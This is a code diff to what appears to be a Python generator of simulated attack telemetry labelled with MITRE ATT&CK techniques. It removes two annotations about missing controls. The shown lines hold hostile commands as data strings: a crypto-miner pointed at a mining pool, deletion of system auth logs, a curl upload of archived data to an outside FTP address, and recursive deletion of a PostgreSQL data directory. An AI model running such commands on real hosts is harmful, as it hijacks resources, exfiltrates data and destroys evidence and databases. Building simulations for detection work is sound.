@@ -73,9 +73,6 @@ def docker(e):
     x = e.run(two, t + m(3), "/usr/bin/xmr", "/usr/bin/xmr -o pool.coins.example:443 --tls", q, content="xmr b")
     e.harm(two, t + m(3), "T1496", "resource-hijacked", "miner",
            [x, *beacon(e, two, t + m(3) + s(5), x, "192.0.2.67", "pool.coins.example", 10, 4000)])
-    e.cause(two, "T1021.004", "id.mfa", "would-have-limited",
-            "root by a key that lies on the next node, nothing else asked",
-            same=("id.tiering", "net.segment"), rows=[q])
     r = e.run(one, t + m(6), "/usr/bin/rm", "rm -rf /var/log/syslog /var/log/auth.log", sh)
     d = e.file(one, t + m(6) + s(1), "FileDeleted", "/var/log/auth.log", r)
     e.harm(one, t + m(6), "T1070.002", "logs-cleared", "logs of the host", [r, d])
@@ -119,8 +116,6 @@ def ssh_guess(e):
             send(e, db, k + m(9), q, "/usr/bin/curl -s -T /tmp/.x/all.gz ftp://203.0.113.172/in/", "203.0.113.172",
                  None,
                  "T1048.003", 21)
-            e.cause(db, "T1048.003", "net.egress", "would-have-limited",
-                    "a database that may speak to the whole internet", rows=[p])
         r = e.run(db, k + m(20), "/usr/bin/sudo", "sudo rm -rf /var/lib/postgresql/14/main", q)
         rows = [e.file(db, k + m(20) + s(1 + i / 3), "FileDeleted", f"/var/lib/postgresql/14/main/base/{16000 + i}", r)
                 for i in range(25)]
